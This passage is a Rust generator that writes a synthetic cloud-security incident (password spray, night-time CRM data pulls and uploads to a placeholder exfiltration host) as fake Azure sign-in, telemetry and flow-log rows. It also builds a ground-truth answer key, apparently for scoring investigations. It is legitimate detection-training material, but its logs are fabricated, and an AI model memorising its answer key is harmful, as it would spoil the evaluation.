@@ -1,0 +1,1249 @@
+//! The synthetic incident: who works when, what the attacker does, and the rows each event leaves.
+
+use std::collections::BTreeSet;
+use std::path::Path;
+
+use chrono::{DateTime, Datelike, Duration, NaiveDate, TimeZone, Timelike, Utc, Weekday};
+use serde::Serialize;
+use serde_json::{Value, json};
+
+use super::blobs::{BlobSet, SlotLayout, workspace_prefix};
+use crate::error::Result;
+
+/// splitmix64: small, fast, and the same on every platform.
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+        z ^ (z >> 31)
+    }
+    fn unit(&mut self) -> f64 {
+        (self.next() >> 11) as f64 / (1u64 << 53) as f64
+    }
+    fn below(&mut self, n: u64) -> u64 {
+        if n == 0 { 0 } else { self.next() % n }
+    }
+    fn range(&mut self, lo: i64, hi: i64) -> i64 {
+        lo + self.below((hi - lo).max(1) as u64) as i64
+    }
+    fn chance(&mut self, p: f64) -> bool {
+        self.unit() < p
+    }
+    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
+        &items[self.below(items.len() as u64) as usize]
+    }
+    fn poisson(&mut self, lambda: f64) -> u32 {
+        let limit = (-lambda).exp();
+        let (mut k, mut p) = (0u32, 1.0);
+        loop {
+            p *= self.unit();
+            if p <= limit || k > 1000 {
+                return k;
+            }
+            k += 1;
+        }
+    }
+    fn hex(&mut self, chars: usize) -> String {
+        let mut s = String::with_capacity(chars);
+        while s.len() < chars {
+            s.push_str(&format!("{:016x}", self.next()));
+        }
+        s.truncate(chars);
+        s
+    }
+    fn uuid(&mut self) -> String {
+        let h = self.hex(32);
+        format!(
+            "{}-{}-4{}-a{}-{}",
+            &h[0..8],
+            &h[8..12],
+            &h[13..16],
+            &h[17..20],
+            &h[20..32]
+        )
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Pattern {
+    /// Weekdays, 08:00–18:00 in the user's own zone.
+    Office,
+    /// Every night, 22:00–06:00 UTC.
+    NightShift,
+    /// Office hours, but only from this day on (a new employee).
+    StartsOn(u32),
+}
+
+#[derive(Debug, Clone)]
+struct User {
+    upn: String,
+    object_id: String,
+    display: String,
+    ip: String,
+    country: &'static str,
+    city: &'static str,
+    asn: i64,
+    utc_offset: i64,
+    pattern: Pattern,
+    customers: Vec<String>,
+    agent: &'static str,
+}
+
+/// How the MCP server records the caller in `UserAuthenticatedId` / `enduser.id`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum EnduserForm {
+    /// The Entra object id.
+    ObjectId,
+    /// The user principal name.
+    Upn,
+}
+
+/// What really happened, for tests and for judging `scope`.
+#[derive(Debug, Clone, Serialize)]
+pub struct GroundTruth {
+    /// Seed used.
+    pub seed: u64,
+    /// First day of evidence.
+    pub start: String,
+    /// Days of evidence.
+    pub days: u32,
+    /// When the spray started.
+    pub attack_start: String,
+    /// Compromised identities (UPN and object id).
+    pub compromised_users: Vec<TruthUser>,
+    /// Users who must not be named (night shift, new hire) with why.
+    pub innocent_users: Vec<TruthUser>,
+    /// Addresses the attacker used.
+    pub attacker_ips: Vec<String>,
+    /// Customers whose data the attacker touched.
+    pub affected_customers: Vec<String>,
+    /// Tool calls made by the attacker (through the victim's identity and anonymously).
+    pub attacker_tool_calls: u64,
+    /// Anonymous calls with the stolen APIM key.
+    pub anonymous_tool_calls: u64,
+    /// Where data went: destination address and host.
+    pub exfiltration: Vec<TruthDestination>,
+    /// Destinations that are normal (backups, Key Vault).
+    pub benign_destinations: Vec<TruthDestination>,
+    /// The export outage (App Insights tables), UTC.
+    pub outage: (String, String),
+    /// How `UserAuthenticatedId` is written.
+    pub enduser_form: EnduserForm,
+}
+
+/// A user in the ground truth.
+#[derive(Debug, Clone, Serialize)]
+pub struct TruthUser {
+    /// UPN.
+    pub upn: String,
+    /// Entra object id.
+    pub object_id: String,
+    /// Why they are listed.
+    pub note: String,
+}
+
+/// A network destination in the ground truth.
+#[derive(Debug, Clone, Serialize)]
+pub struct TruthDestination {
+    /// Address.
+    pub ip: String,
+    /// Host name.
+    pub host: String,
+    /// What it is.
+    pub note: String,
+}
+
+/// Counts of what was written.
+#[derive(Debug, Default)]
+pub struct WriteSummary {
+    /// Blobs written.
+    pub blobs: u64,
+    /// Rows (lines and flow records) written.
+    pub rows: u64,
+}
+
+const NAMES: &[(&str, &str)] = &[
+    ("alice.martin", "Alice Martin"),
+    ("bob.keller", "Bob Keller"),
+    ("carla.diaz", "Carla Diaz"),
+    ("david.okafor", "David Okafor"),
+    ("emma.schulz", "Emma Schulz"),
+    ("farid.haddad", "Farid Haddad"),
+    ("grace.lee", "Grace Lee"),
+    ("hugo.moreau", "Hugo Moreau"),
+    ("ines.costa", "Ines Costa"),
+    ("jonas.berg", "Jonas Berg"),
+    ("kira.novak", "Kira Novak"),
+    ("liam.walsh", "Liam Walsh"),
+    ("maya.singh", "Maya Singh"),
+    ("noah.fischer", "Noah Fischer"),
+    ("olga.petrova", "Olga Petrova"),
+    ("paul.weber", "Paul Weber"),
+    ("quinn.baker", "Quinn Baker"),
+    ("rosa.lopez", "Rosa Lopez"),
+    ("sven.larsen", "Sven Larsen"),
+    ("tara.obrien", "Tara O'Brien"),
+    ("umar.khan", "Umar Khan"),
+    ("vera.horvat", "Vera Horvat"),
+    ("wim.devries", "Wim de Vries"),
+    ("yara.nasser", "Yara Nasser"),
+];
+const DOMAIN: &str = "contoso.com";
+const OFFICE_IP: &str = "203.0.113.10";
+const SPRAY_IP: &str = "185.220.101.47";
+const NIGHT_IPS: [&str; 2] = ["45.86.202.14", "45.86.202.77"];
+const EXFIL_IP: &str = "91.215.85.30";
+const EXFIL_HOST: &str = "files-drop.example.net";
+const BACKUP_IP: &str = "20.60.40.4";
+const BACKUP_HOST: &str = "stcrmbackup.blob.core.windows.net";
+const VAULT_IP: &str = "52.246.157.5";
+const VAULT_HOST: &str = "kv-mcp-prod.vault.azure.net";
+const MCP_HOST_IP: &str = "10.0.1.4";
+const MCP_MAC: &str = "000D3A1B2C3D";
+const TICKETS_IP: &str = "10.0.2.5";
+const TICKETS_MAC: &str = "000D3A5E6F70";
+const APIM_PRIVATE_IP: &str = "10.0.3.4";
+const SCANNERS: &[&str] = &[
+    "193.32.162.17",
+    "80.94.95.226",
+    "162.142.125.9",
+    "71.6.199.23",
+    "45.148.10.81",
+];
+
+/// A generated incident.
+pub struct Scenario {
+    seed: u64,
+    scale: f64,
+    start: NaiveDate,
+    days: u32,
+    users: Vec<User>,
+    victim: usize,
+    attack_day: u32,
+    outage_day: u32,
+    enduser_form: EnduserForm,
+    tenant_id: String,
+    workspace_id: String,
+    subscription: String,
+    ikey: String,
+}
+
+struct DayContext<'a> {
+    rng: Rng,
+    blobs: BlobSet,
+    ws: String,
+    scenario: &'a Scenario,
+    rows: u64,
+    touched: BTreeSet<String>,
+    attacker_calls: u64,
+    anonymous_calls: u64,
+}
+
+impl Scenario {
+    /// A scenario for a seed and scale; the same inputs always give the same incident.
+    pub fn new(seed: u64, scale: f64, start: NaiveDate, days: u32) -> Self {
+        let mut rng = Rng(seed ^ 0x6d63_7066_6f72_656e);
+        let user_count = ((20.0 * scale.sqrt()).round() as usize).clamp(8, 2000);
+        let mut users = Vec::with_capacity(user_count);
+        let mut next_customer = 10_001u32;
+        for i in 0..user_count {
+            let (login, display) = NAMES[i % NAMES.len()];
+            let suffix = if i < NAMES.len() {
+                String::new()
+            } else {
+                format!("{}", i / NAMES.len() + 1)
+            };
+            let remote = i % 5 == 3;
+            let (country, city, utc_offset, asn) = match i % 7 {
+                0 | 1 | 2 | 4 => ("DE", "Berlin", 1, 3320),
+                3 => ("GB", "London", 0, 2856),
+                5 => ("IE", "Dublin", 0, 5466),
+                _ => ("NL", "Amsterdam", 1, 1136),
+            };
+            let customers = (0..12)
+                .map(|_| {
+                    next_customer += 1;
+                    format!("C-{next_customer}")
+                })
+                .collect();
+            users.push(User {
+                upn: format!("{login}{suffix}@{DOMAIN}"),
+                object_id: rng.uuid(),
+                display: format!(
+                    "{display}{}",
+                    if suffix.is_empty() {
+                        String::new()
+                    } else {
+                        format!(" {suffix}")
+                    }
+                ),
+                ip: if remote {
+                    format!("198.51.100.{}", 20 + i % 200)
+                } else {
+                    OFFICE_IP.to_string()
+                },
+                country,
+                city,
+                asn,
+                utc_offset,
+                pattern: Pattern::Office,
+                customers,
+                agent: if i % 2 == 0 {
+                    "Claude-Desktop/0.12.3"
+                } else {
+                    "vscode-copilot/1.104.0"
+                },
+            });
+        }
+        let attack_day = days / 2;
+        // The night-shift worker and the new hire are innocent look-alikes.
+        users[2].pattern = Pattern::NightShift;
+        users[2].ip = "198.51.100.77".into();
+        let new_hire = user_count - 1;
+        users[new_hire].pattern = Pattern::StartsOn(attack_day + 3);
+        users[new_hire].ip = OFFICE_IP.into();
+        let victim = 1;
+        Scenario {
+            seed,
+            scale,
+            start,
+            days,
+            users,
+            victim,
+            attack_day,
+            outage_day: (attack_day + 5).min(days - 2),
+            enduser_form: if seed % 2 == 1 {
+                EnduserForm::ObjectId
+            } else {
+                EnduserForm::Upn
+            },
+            tenant_id: rng.uuid(),
+            workspace_id: rng.uuid(),
+            subscription: rng.uuid(),
+            ikey: rng.uuid(),
+        }
+    }
+
+    /// The customers the attacker goes after: the books of every third colleague.
+    fn targets(&self) -> Vec<String> {
+        self.users
+            .iter()
+            .enumerate()
+            .filter(|(i, _)| i % 3 == 0 && *i != self.victim)
+            .flat_map(|(_, u)| u.customers.clone())
+            .collect()
+    }
+
+    fn day_start(&self, day: u32) -> DateTime<Utc> {
+        let date = self.start + Duration::days(i64::from(day));
+        Utc.from_utc_datetime(&date.and_hms_opt(0, 0, 0).unwrap_or_default())
+    }
+
+    fn outage(&self) -> (DateTime<Utc>, DateTime<Utc>) {
+        let day = self.day_start(self.outage_day);
+        (day + Duration::hours(6), day + Duration::hours(13))
+    }
+
+    /// The ground truth, computed by replaying the generation without writing.
+    pub fn truth(&self) -> GroundTruth {
+        let mut touched = BTreeSet::new();
+        let (mut attacker_calls, mut anonymous_calls) = (0, 0);
+        for day in 0..self.days {
+            let ctx = self.generate_day(day);
+            touched.extend(ctx.touched);
+            attacker_calls += ctx.attacker_calls;
+            anonymous_calls += ctx.anonymous_calls;
+        }
+        let victim = &self.users[self.victim];
+        let truth_user = |u: &User, note: &str| TruthUser {
+            upn: u.upn.clone(),
+            object_id: u.object_id.clone(),
+            note: note.into(),
+        };
+        let (outage_from, outage_to) = self.outage();
+        GroundTruth {
+            seed: self.seed,
+            start: self.start.to_string(),
+            days: self.days,
+            attack_start: crate::time::format_utc(
+                self.day_start(self.attack_day) + Duration::minutes(185),
+            ),
+            compromised_users: vec![truth_user(
+                victim,
+                "password spray success, then night-time pulls from new IPs",
+            )],
+            innocent_users: vec![
+                truth_user(
+                    &self.users[2],
+                    "night-shift worker: works 22:00-06:00 UTC every day",
+                ),
+                truth_user(
+                    &self.users[self.users.len() - 1],
+                    "new employee who starts inside the window, from the office network",
+                ),
+            ],
+            attacker_ips: std::iter::once(SPRAY_IP)
+                .chain(NIGHT_IPS)
+                .map(String::from)
+                .collect(),
+            affected_customers: touched.into_iter().collect(),
+            attacker_tool_calls: attacker_calls,
+            anonymous_tool_calls: anonymous_calls,
+            exfiltration: vec![
+                TruthDestination {
+                    ip: EXFIL_IP.into(),
+                    host: EXFIL_HOST.into(),
+                    note: "exports uploaded by the server on the attacker's request".into(),
+                },
+                TruthDestination {
+                    ip: NIGHT_IPS[0].into(),
+                    host: String::new(),
+                    note: "tool responses to the attacker".into(),
+                },
+                TruthDestination {
+                    ip: NIGHT_IPS[1].into(),
+                    host: String::new(),
+                    note: "tool responses to the attacker".into(),
+                },
+            ],
+            benign_destinations: vec![
+                TruthDestination {
+                    ip: BACKUP_IP.into(),
+                    host: BACKUP_HOST.into(),
+                    note: "nightly backup".into(),
+                },
+                TruthDestination {
+                    ip: VAULT_IP.into(),
+                    host: VAULT_HOST.into(),
+                    note: "Key Vault reads".into(),
+                },
+            ],
+            outage: (
+                crate::time::format_utc(outage_from),
+                crate::time::format_utc(outage_to),
+            ),
+            enduser_form: self.enduser_form,
+        }
+    }
+
+    /// Writes every blob below `root`, one day at a time.
+    pub fn write(&self, root: &Path) -> Result<WriteSummary> {
+        let mut summary = WriteSummary::default();
+        for day in 0..self.days {
+            let mut ctx = self.generate_day(day);
+            summary.rows += ctx.rows;
+            summary.blobs += ctx.blobs.flush(root, 8)?;
+        }
+        Ok(summary)
+    }
+
+    fn generate_day(&self, day: u32) -> DayContext<'_> {
+        let mut ctx = DayContext {
+            rng: Rng(self
+                .seed
+                .wrapping_mul(1_000_003)
+                .wrapping_add(u64::from(day) * 7919)),
+            blobs: BlobSet::default(),
+            ws: workspace_prefix(&self.subscription, "rg-mcp-prod", "law-mcp-prod"),
+            scenario: self,
+            rows: 0,
+            touched: BTreeSet::new(),
+            attacker_calls: 0,
+            anonymous_calls: 0,
+        };
+        let midnight = self.day_start(day);
+        let weekday = !matches!(midnight.weekday(), Weekday::Sat | Weekday::Sun);
+        for user in &self.users {
+            let hours: Vec<i64> = match user.pattern {
+                Pattern::Office if weekday => (8..18).map(|h| h - user.utc_offset).collect(),
+                Pattern::StartsOn(first) if weekday && day >= first => {
+                    (9..17).map(|h| h - user.utc_offset).collect()
+                }
+                Pattern::NightShift => vec![0, 1, 2, 3, 4, 5, 22, 23],
+                _ => Vec::new(),
+            };
+            if hours.is_empty() {
+                continue;
+            }
+            let first_hour = if user.pattern == Pattern::NightShift {
+                0
+            } else {
+                hours[0]
+            };
+            let session = ctx.rng.uuid();
+            let sign_in =
+                midnight + Duration::hours(first_hour) + Duration::seconds(ctx.rng.range(60, 1500));
+            ctx.sign_in(user, sign_in, &user.ip, "0", true);
+            for &hour in &hours {
+                let hour_start = midnight + Duration::hours(hour);
+                if ctx.rng.chance(0.15) {
+                    let at = hour_start + Duration::seconds(ctx.rng.range(0, 3500));
+                    ctx.sign_in(user, at, &user.ip, "0", false);
+                }
+                let calls = ctx.rng.poisson(0.4 * self.scale.clamp(0.2, 4.0));
+                for _ in 0..calls {
+                    let t = hour_start + Duration::milliseconds(ctx.rng.range(0, 3_599_000));
+                    let call = ctx.legit_call(user);
+                    ctx.tool_call(user, &user.ip, &session, t, &call, false);
+                }
+            }
+        }
+        ctx.background(midnight);
+        if weekday {
+            ctx.helpdesk(midnight);
+        }
+        if day == self.attack_day {
+            ctx.spray(midnight + Duration::minutes(185));
+        }
+        if day > self.attack_day || (day == self.attack_day && ctx.rng.chance(1.0)) {
+            let night_index = day - self.attack_day;
+            if night_index == 0 || ctx.rng.chance(0.75) {
+                ctx.attacker_night(midnight, night_index);
+            }
+        }
+        if day == self.days - 1 {
+            // The last hour's flow-log blob was read while still being appended to.
+            let last_hour = midnight + Duration::hours(23);
+            ctx.blobs.cut_flow_blob(
+                "insights-logs-networksecuritygroupflowevent",
+                &ctx.nsg_prefix(),
+                MCP_MAC,
+                last_hour,
+                37,
+            );
+        }
+        ctx
+    }
+}
+
+/// One MCP tool call as the server handles it.
+struct Call {
+    tool: &'static str,
+    arguments: Value,
+    customers: Vec<String>,
+    response_bytes: i64,
+    upload: Option<i64>,
+}
+
+fn ts(t: DateTime<Utc>) -> String {
+    format!(
+        "{}.{:07}Z",
+        t.format("%Y-%m-%dT%H:%M:%S"),
+        t.timestamp_subsec_nanos() / 100
+    )
+}
+
+impl DayContext<'_> {
+    fn nsg_prefix(&self) -> String {
+        format!(
+            "resourceId=/SUBSCRIPTIONS/{}/RESOURCEGROUPS/RG-MCP-PROD/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG-MCP-PROD",
+            self.scenario.subscription.to_ascii_uppercase()
+        )
+    }
+
+    fn vnet_prefix(&self) -> String {
+        format!(
+            "flowLogResourceID=/{}_NETWORKWATCHERRG/NETWORKWATCHER_WESTEUROPE_FL-MCP-TICKETS",
+            self.scenario.subscription.to_ascii_uppercase()
+        )
+    }
+
+    fn in_outage(&self, table: &str, t: DateTime<Utc>) -> bool {
+        let (from, to) = self.scenario.outage();
+        table.starts_with("App") && t >= from && t < to
+    }
+
+    fn emit(&mut self, table: &str, t: DateTime<Utc>, row: Value) {
+        if self.in_outage(table, t) {
+            return;
+        }
+        let layout = match table {
+            "AppEvents" => SlotLayout::FiveMinutesShort,
+            "AuditLogs" => SlotLayout::Hourly,
+            _ => SlotLayout::FiveMinutes,
+        };
+        let mut line = row.to_string();
+        // Export faults: a few lines cut short, one wrong type, and retry duplicates.
+        let roll = self.rng.unit();
+        if table == "AppRequests" && roll < 0.002 {
+            line.truncate(line.len() * 3 / 5);
+        } else if table == "AppTraces" && roll < 0.0015 {
+            line = line.replacen(
+                "\"SeverityLevel\":1",
+                "\"SeverityLevel\":\"Information\"",
+                1,
+            );
+        }
+        let duplicate = roll > 0.992;
+        let ws = self.ws.clone();
+        if duplicate {
+            self.blobs.row(&ws, table, layout, t, line.clone());
+            self.rows += 1;
+        }
+        self.blobs.row(&ws, table, layout, t, line);
+        self.rows += 1;
+    }
+
+    fn sign_in(
+        &mut self,
+        user: &User,
+        t: DateTime<Utc>,
+        ip: &str,
+        result: &str,
+        interactive: bool,
+    ) {
+        let attacker = ip == SPRAY_IP || NIGHT_IPS.contains(&ip);
+        let (country, city, asn) = if attacker {
+            if ip == SPRAY_IP {
+                ("NL", "Amsterdam", 60729)
+            } else {
+                ("RO", "Bucharest", 48693)
+            }
+        } else {
+            (user.country, user.city, user.asn)
+        };
+        let location =
+            json!({"city": city, "state": "", "countryOrRegion": country, "geoCoordinates": {}});
+        let device = json!({"deviceId": "", "operatingSystem": if attacker { "Linux" } else { "Windows 10" }, "browser": if attacker { "python-requests 2.32" } else { "Edge 131.0.0" }});
+        let description = match result {
+            "0" => "",
+            "50126" => "Error validating credentials due to invalid username or password.",
+            "50053" => {
+                "Account is locked because user tried to sign in too many times with an incorrect user ID or password."
+            }
+            _ => "Other",
+        };
+        let status = json!({"errorCode": result.parse::<i64>().unwrap_or(0), "failureReason": if result == "0" { "Other." } else { description }});
+        let table = if interactive {
+            "SigninLogs"
+        } else {
+            "AADNonInteractiveUserSignInLogs"
+        };
+        // The non-interactive table writes its dynamic columns as JSON strings.
+        let dynamic = |v: Value| {
+            if interactive {
+                v
+            } else {
+                Value::String(v.to_string())
+            }
+        };
+        let row = json!({
+            "TenantId": self.scenario.workspace_id, "SourceSystem": "Azure AD", "TimeGenerated": ts(t),
+            "ResourceId": format!("/tenants/{}/providers/Microsoft.aadiam", self.scenario.tenant_id),
+            "OperationName": "Sign-in activity", "OperationVersion": "1.0", "Category": if interactive { "SignInLogs" } else { "NonInteractiveUserSignInLogs" },
+            "ResultType": result, "ResultSignature": if result == "0" { "SUCCESS" } else { "FAILURE" }, "ResultDescription": description,
+            "DurationMs": 0, "CorrelationId": self.rng.uuid(), "Identity": user.display, "Level": 4, "Location": country,
+            "AppDisplayName": "MCP CRM Assistant", "AppId": "4f6b2a1e-9c3d-4e8f-a1b2-c3d4e5f60718", "AuthenticationRequirement": "singleFactorAuthentication",
+            "ClientAppUsed": if interactive { "Browser" } else { "Mobile Apps and Desktop clients" }, "ConditionalAccessStatus": "notApplied",
+            "CreatedDateTime": ts(t), "DeviceDetail": dynamic(device), "IsInteractive": interactive, "Id": self.rng.uuid(),
+            "IPAddress": ip, "AutonomousSystemNumber": asn, "LocationDetails": dynamic(location), "OriginalRequestId": self.rng.uuid(),
+            "RiskDetail": "none", "RiskLevelAggregated": "hidden", "RiskLevelDuringSignIn": "hidden", "RiskState": "none",
+            "ResourceDisplayName": "mcp-crm-api", "ResourceIdentity": "7a1c9e55-2b4d-4c6e-8f10-2a3b4c5d6e7f",
+            "Status": dynamic(status), "TokenIssuerType": "AzureAD", "UserAgent": if attacker { "python-requests/2.32.3" } else { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/131.0" },
+            "UserDisplayName": user.display, "UserId": user.object_id, "UserPrincipalName": user.upn, "UserType": "Member",
+            "UniqueTokenIdentifier": self.rng.hex(22), "HomeTenantId": self.scenario.tenant_id, "ResourceTenantId": self.scenario.tenant_id,
+            "Type": table,
+        });
+        self.emit(table, t, row);
+    }
+
+    fn legit_call(&mut self, user: &User) -> Call {
+        let customer = self.rng.pick(&user.customers).clone();
+        let roll = self.rng.below(100);
+        let (tool, arguments, customers, bytes) = match roll {
+            0..=34 => (
+                "get_customer",
+                json!({"customer_id": customer}),
+                vec![customer],
+                self.rng.range(1_800, 6_000),
+            ),
+            35..=59 => (
+                "list_orders",
+                json!({"customerId": customer, "since": "2026-01-01"}),
+                vec![customer],
+                self.rng.range(3_000, 14_000),
+            ),
+            60..=74 => (
+                "get_invoice",
+                json!({"account_id": customer, "invoice_id": format!("INV-{}", self.rng.range(40_000, 99_999))}),
+                vec![customer],
+                self.rng.range(2_000, 5_000),
+            ),
+            75..=89 => {
+                let matched: Vec<String> = (0..self.rng.range(1, 4))
+                    .map(|_| self.rng.pick(&user.customers).clone())
+                    .collect();
+                (
+                    "search_customers",
+                    json!({"query": format!("{} ltd", &customer[2..5])}),
+                    matched,
+                    self.rng.range(1_500, 4_000),
+                )
+            }
+            _ => (
+                "update_ticket",
+                json!({"ticket_id": format!("T-{}", self.rng.range(100_000, 999_999)), "customer": customer, "status": "resolved"}),
+                vec![customer],
+                600,
+            ),
+        };
+        Call {
+            tool,
+            arguments,
+            customers,
+            response_bytes: bytes,
+            upload: None,
+        }
+    }
+
+    #[allow(clippy::too_many_lines)]
+    fn tool_call(
+        &mut self,
+        user: &User,
+        client_ip: &str,
+        session: &str,
+        t: DateTime<Utc>,
+        call: &Call,
+        attacker: bool,
+    ) {
+        let trace = self.rng.hex(32);
+        let span = self.rng.hex(16);
+        let enduser = match self.scenario.enduser_form {
+            EnduserForm::ObjectId => user.object_id.clone(),
+            EnduserForm::Upn => user.upn.clone(),
+        };
+        let result = match call.tool {
+            "search_customers" => {
+                json!({"matches": call.customers.iter().map(|c| json!({"customer_id": c})).collect::<Vec<_>>()})
+            }
+            "export_customer_data" => {
+                json!({"exported": call.customers.len(), "status": "delivered"})
+            }
+            _ => json!({"ok": true}),
+        };
+        let duration = self.rng.range(40, 900) as f64 + self.rng.unit();
+        let agent = if attacker {
+            "mcp-python-client/1.9.0"
+        } else {
+            user.agent
+        };
+        let properties = json!({
+            "mcp.method.name": "tools/call", "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": call.tool,
+            "mcp.session.id": session, "jsonrpc.request.id": format!("{}", self.rng.range(2, 400)), "mcp.protocol.version": "2025-06-18",
+            "network.transport": "tcp", "network.protocol.name": "http", "client.address": client_ip, "client.port": format!("{}", self.rng.range(49_152, 65_535)),
+            "enduser.id": enduser, "user_agent.original": agent,
+            "gen_ai.tool.call.arguments": call.arguments.to_string(), "gen_ai.tool.call.result": result.to_string(),
+            "response.bytes": format!("{}", call.response_bytes),
+        });
+        let request = json!({
+            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t), "Id": span, "Source": "", "Name": format!("tools/call {}", call.tool),
+            "Url": "https://mcp-crm.contoso.com/mcp", "Success": true, "ResultCode": "0", "DurationMs": duration,
+            "PerformanceBucket": if duration < 250.0 { "<250ms" } else { "250ms-500ms" }, "Properties": properties, "Measurements": null,
+            "OperationName": format!("tools/call {}", call.tool), "OperationId": trace, "ParentId": "", "SyntheticSource": "", "SessionId": "",
+            "UserId": "", "UserAuthenticatedId": enduser, "UserAccountId": "", "AppVersion": "1.4.2", "AppRoleName": "mcp-crm-server",
+            "AppRoleInstance": "vm-mcp-01", "ClientType": "PC", "ClientModel": "", "ClientOS": "", "ClientIP": "0.0.0.0", "ClientCity": "",
+            "ClientStateOrProvince": "", "ClientCountryOrRegion": "", "ClientBrowser": "", "ResourceGUID": self.scenario.ikey, "IKey": self.scenario.ikey,
+            "SDKVersion": "otelpy1.29.0:otel1.29.0:ext1.0.0b32", "ItemCount": 1, "ReferencedItemId": "", "ReferencedType": "", "SourceSystem": "Azure",
+            "Type": "AppRequests", "_ResourceId": format!("/subscriptions/{}/resourcegroups/rg-mcp-prod/providers/microsoft.insights/components/appi-mcp-prod", self.scenario.subscription),
+        });
+        self.emit("AppRequests", t, request);
+        let statement = match call.customers.as_slice() {
+            [one] => format!(
+                "SELECT id, name, email, iban, address FROM crm.customers WHERE id = '{one}'"
+            ),
+            many => format!(
+                "SELECT id, name, email, iban, address FROM crm.customers WHERE id IN ({})",
+                many.iter()
+                    .map(|c| format!("'{c}'"))
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            ),
+        };
+        let db_time = t + Duration::milliseconds(self.rng.range(2, 30));
+        self.dependency(
+            db_time,
+            &trace,
+            &span,
+            "SQL",
+            "sql-crm-prod.database.windows.net | crm",
+            "SELECT crm.customers",
+            &statement,
+            None,
+            0,
+        );
+        self.emit("AppTraces", t + Duration::milliseconds(1), json!({
+            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t + Duration::milliseconds(1)),
+            "Message": format!("tool {} called in session {}", call.tool, session), "SeverityLevel": 1,
+            "Properties": {"gen_ai.tool.name": call.tool, "mcp.session.id": session}, "OperationName": format!("tools/call {}", call.tool),
+            "OperationId": trace, "ParentId": span, "AppRoleName": "mcp-crm-server", "AppRoleInstance": "vm-mcp-01", "ClientIP": "0.0.0.0",
+            "ItemCount": 1, "SDKVersion": "otelpy1.29.0", "Type": "AppTraces",
+        }));
+        if let Some(upload_bytes) = call.upload {
+            let upload_time = t + Duration::milliseconds(self.rng.range(300, 2_000));
+            let url = format!("https://{EXFIL_HOST}/u/{}", self.rng.hex(10));
+            self.dependency(
+                upload_time,
+                &trace,
+                &span,
+                "HTTP",
+                EXFIL_HOST,
+                "POST /u",
+                &url,
+                Some(EXFIL_IP),
+                upload_bytes,
+            );
+            self.flow(
+                MCP_MAC,
+                upload_time,
+                MCP_HOST_IP,
+                EXFIL_IP,
+                (40_000, 60_000),
+                443,
+                'O',
+                upload_bytes,
+                4_000,
+            );
+        }
+        // The client's connection to the server: the response bytes flow back to the client.
+        self.flow(
+            MCP_MAC,
+            t,
+            client_ip,
+            MCP_HOST_IP,
+            (49_152, 65_535),
+            443,
+            'I',
+            1_200 + call.arguments.to_string().len() as i64,
+            call.response_bytes + 900,
+        );
+        if attacker {
+            self.attacker_calls += 1;
+            self.touched.extend(call.customers.iter().cloned());
+        }
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    fn dependency(
+        &mut self,
+        t: DateTime<Utc>,
+        trace: &str,
+        parent: &str,
+        kind: &str,
+        target: &str,
+        name: &str,
+        data: &str,
+        peer: Option<&str>,
+        bytes: i64,
+    ) {
+        let mut properties = json!({"db.system": if kind == "SQL" { "mssql" } else { "" }});
+        if let Some(peer) = peer {
+            properties = json!({"network.peer.address": peer, "server.address": target, "http.request.body.size": format!("{bytes}")});
+        }
+        let id = self.rng.hex(16);
+        let duration = self.rng.range(2, 400) as f64;
+        let row = json!({
+            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t), "Id": id, "Target": target,
+            "DependencyType": kind, "Name": name, "Data": data, "Success": true, "ResultCode": if kind == "HTTP" { "201" } else { "0" },
+            "DurationMs": duration, "Properties": properties, "OperationName": name, "OperationId": trace,
+            "ParentId": parent, "AppRoleName": "mcp-crm-server", "AppRoleInstance": "vm-mcp-01", "ClientIP": "0.0.0.0", "ItemCount": 1,
+            "SDKVersion": "otelpy1.29.0", "Type": "AppDependencies",
+        });
+        self.emit("AppDependencies", t, row);
+    }
+
+    /// One NSG flow: a begin tuple and an end tuple with the byte counts, in a one-minute record.
+    #[allow(clippy::too_many_arguments)]
+    fn flow(
+        &mut self,
+        mac: &str,
+        t: DateTime<Utc>,
+        src: &str,
+        dst: &str,
+        sports: (i64, i64),
+        dport: i64,
+        direction: char,
+        bytes_s2d: i64,
+        bytes_d2s: i64,
+    ) {
+        let sport = self.rng.range(sports.0, sports.1);
+        let start = t.timestamp();
+        let end = start + self.rng.range(1, 20);
+        let packets = |b: i64| (b / 1_400).max(1) + 2;
+        let (rule, dst_rule) = if direction == 'I' {
+            ("UserRule_Allow-HTTPS-Inbound", dst)
+        } else {
+            ("DefaultRule_AllowInternetOutBound", src)
+        };
+        let _ = dst_rule;
+        let tuples = vec![
+            format!("{start},{src},{dst},{sport},{dport},T,{direction},A,B,,,,"),
+            format!(
+                "{end},{src},{dst},{sport},{dport},T,{direction},A,E,{},{bytes_s2d},{},{bytes_d2s}",
+                packets(bytes_s2d),
+                packets(bytes_d2s)
+            ),
+        ];
+        let record_time = Utc
+            .timestamp_opt(end - end % 60 + 60, 0)
+            .single()
+            .unwrap_or(t);
+        let record_time = if record_time.hour() != t.hour() {
+            t
+        } else {
+            record_time
+        };
+        if mac == TICKETS_MAC {
+            let (ms_start, ms_end) = (
+                start * 1000 + self.rng.range(0, 999),
+                end * 1000 + self.rng.range(0, 999),
+            );
+            let vnet_tuples = vec![
+                format!(
+                    "{},{src},{dst},{sport},{dport},6,{direction},B,NX,0,0,0,0",
+                    ms_start
+                ),
+                format!(
+                    "{},{src},{dst},{sport},{dport},6,{direction},E,NX,{},{bytes_s2d},{},{bytes_d2s}",
+                    ms_end,
+                    packets(bytes_s2d),
+                    packets(bytes_d2s)
+                ),
+            ];
+            let record = json!({
+                "time": ts(record_time), "flowLogVersion": 4, "flowLogGUID": "3c1f6a2e-5b7d-4e9f-8a1b-2c3d4e5f6a7b", "macAddress": mac,
